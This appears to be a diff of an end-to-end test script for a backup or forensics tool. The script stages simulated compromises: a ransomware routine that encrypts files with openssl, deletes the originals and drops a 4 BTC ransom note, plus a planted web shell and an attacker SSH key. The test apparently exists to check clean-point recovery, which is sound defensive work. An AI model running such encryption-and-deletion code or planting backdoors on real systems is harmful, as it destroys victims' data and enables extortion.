@@ -340,16 +340,10 @@ def ransom(note_name, ext, password):
                 if f.endswith(".php") or f == note_name:
                     continue
                 targets.append(os.path.join(dirpath, f))
-    folders = set()
     note = ("YOUR FILES ARE ENCRYPTED\n\nAll your documents, databases and backups were encrypted.\n"
             "To get them back, contact us: restore-files@onionmail.example and pay 4 BTC.\n"
             "Do not rename the files, do not try to decrypt them yourself.\nYour ID: 7F3A-22C9\n")
-    n = 0
-    chosen = []
-    for i, f in enumerate(targets):
-        if i % 3:
-            continue
-        chosen.append(f)
+    chosen = targets[::3]
     # One openssl process per file, as many at once as there are cores.
     def encrypt(f):
         subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-salt", "-pass", "pass:" + password,
@@ -357,13 +351,11 @@ def ransom(note_name, ext, password):
         os.remove(f)
     with concurrent.futures.ThreadPoolExecutor(os.cpu_count() or 2) as ex:
         list(ex.map(encrypt, chosen))
-    for f in chosen:
-        folders.add(os.path.dirname(f))
-        n += 1
+    folders = sorted(set(os.path.dirname(f) for f in chosen))
     for d in folders:
         with open(os.path.join(d, note_name), "w") as fh:
             fh.write(note)
-    print("%d files encrypted, %d notes" % (n, len(folders)))
+    print("%d files encrypted, %d notes" % (len(chosen), len(folders)))
 
 
 if CMD == "setup":
@@ -408,7 +400,7 @@ rotate() {
     done
 }
 
-install() { hunt_dpkg_install "$S" "$@" || e2e_fail "installing $* into the tree failed"; }
+pkg_install() { hunt_dpkg_install "$S" "$@" || e2e_fail "installing $* into the tree failed"; }
 
 declare -a SNAP
 backup_day() {
@@ -439,11 +431,11 @@ e2e_init_vault
 backup_day 1
 
 gen life 2
-install sensible-utils cron-daemon-common cron
+pkg_install sensible-utils cron-daemon-common cron
 backup_day 2
 
 gen life 3
-install libapt-pkg6.0 apt   # upgrade
+pkg_install libapt-pkg6.0 apt   # upgrade
 # The web developer adds a contact form (a new script in the web root).
 cat >"$S/var/www/html/app/contact.php" <<'EOF'
 <?php
@@ -463,7 +455,7 @@ chown 33:33 "$S/var/www/html/app/contact.php"
 backup_day 3
 
 gen life 4
-install libpopt0 logrotate sudo
+pkg_install libpopt0 logrotate sudo
 rotate
 backup_day 4
 # What the clean point must give back.
@@ -497,7 +489,7 @@ chown 33:33 "$S$SHELL_REL"
 backup_day 5
 
 gen life 6
-install tzdata   # upgrade
+pkg_install tzdata   # upgrade
 backup_day 6
 
 gen life 7
@@ -515,12 +507,12 @@ gen sshkey 666 root@kali >>"$S$KEYS_REL"
 backup_day 8
 
 gen life 9
-install liblzma5   # upgrade
+pkg_install liblzma5   # upgrade
 rotate
 backup_day 9
 
 gen life 10
-install cron   # reinstalled, same version
+pkg_install cron   # reinstalled, same version
 backup_day 10
 
 gen life 11
